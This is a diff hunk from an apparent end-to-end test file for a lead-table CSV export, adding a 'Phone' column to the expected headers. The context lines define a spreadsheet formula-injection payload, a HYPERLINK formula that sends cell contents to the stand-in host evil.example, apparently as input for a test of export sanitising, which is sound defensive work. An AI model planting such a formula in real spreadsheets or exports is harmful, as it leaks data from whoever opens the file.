@@ -6,7 +6,7 @@ import { BANK_VP } from "../prisma/seed/demo-answers";
 import { expect, signInAs, test } from "./fixtures";
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
-const TABLE_COLUMNS = "Submitted (UTC),Name,Email,Company,Owner,Status,Form,Tier,Score,Source,Repeat,Spam,Lead ID";
+const TABLE_COLUMNS = "Submitted (UTC),Name,Email,Phone,Company,Owner,Status,Form,Tier,Score,Source,Repeat,Spam,Lead ID";
 
 /** RFC 4180 cells of one CSV line (quoted fields with doubled quotes). */
 function cells(line: string): string[] {
